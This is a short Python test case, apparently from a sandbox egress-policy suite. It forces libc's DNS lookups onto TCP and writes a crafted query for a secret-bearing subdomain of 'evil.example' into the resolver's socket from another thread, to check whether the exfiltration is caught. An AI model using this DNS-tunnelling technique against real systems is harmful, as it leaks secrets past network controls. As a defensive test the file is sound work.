# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: RES_OPTIONS makes libc's socket to the name server a stream, and another thread writes to
#   it
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os

from attack import SECRET, attempt, beside_lookups, is_asking, question

os.environ["RES_OPTIONS"] = "use-vc"


@attempt
def ask():
    asked = question(SECRET + ".evil.example")
    times = []

    # The server reads once: libc's own question may be all that it gets.
    def write(fd):
        times.append(os.write(fd, len(asked).to_bytes(2, "big") + asked))
        return len(times) > 15

    return beside_lookups(is_asking, write, stays=True)
